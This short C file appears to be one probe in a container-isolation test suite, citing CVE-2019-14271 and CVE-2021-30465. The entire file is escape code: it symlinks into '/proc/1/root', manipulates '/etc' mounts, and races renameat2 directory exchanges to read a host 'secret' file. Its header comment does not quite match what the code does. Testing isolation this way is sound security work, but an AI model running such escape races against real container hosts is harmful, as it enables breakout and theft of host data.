/* Exchanges the program that others run while they enter, and their /proc, in a loop (CVE-2019-14271, CVE-2021-30465). */
#include "common/attack.h"

static void attempt(void) {
    const char *directory = own_directory();
    char one[128], other[128];
    snprintf(one, sizeof one, "%s/etc", directory);
    snprintf(other, sizeof other, "%s/link", directory);
    mkdir(one, 0777);
    TRY(symlink("/proc/1/root/../../etc", other));
    TRY(mount(one, "/etc", NULL, MS_BIND, NULL));
    TRY(umount2("/etc", MNT_DETACH));
    for (int n = 0; n < 2000; n++) {
        renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
        char path[160];
        snprintf(path, sizeof path, "%s/secret", one);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd >= 0) {
            show_fd(path, fd);
            close(fd);
        }
    }
}
